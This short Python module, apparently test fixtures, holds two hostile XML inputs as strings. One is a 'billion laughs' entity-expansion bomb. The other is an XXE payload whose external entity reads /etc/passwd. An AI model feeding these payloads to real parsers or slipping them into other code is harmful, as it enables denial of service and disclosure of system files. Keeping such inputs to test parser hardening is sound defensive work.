"""XML and YAML made to harm whoever reads it, as strings."""

from __future__ import annotations

LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)
"""Ten to the eleventh laughs, if `&a11;` were resolved."""

OUTSIDE = '<!DOCTYPE x [<!ENTITY a11 SYSTEM "file:///etc/passwd">]>'
"""`&a11;` stands for a file of the machine."""
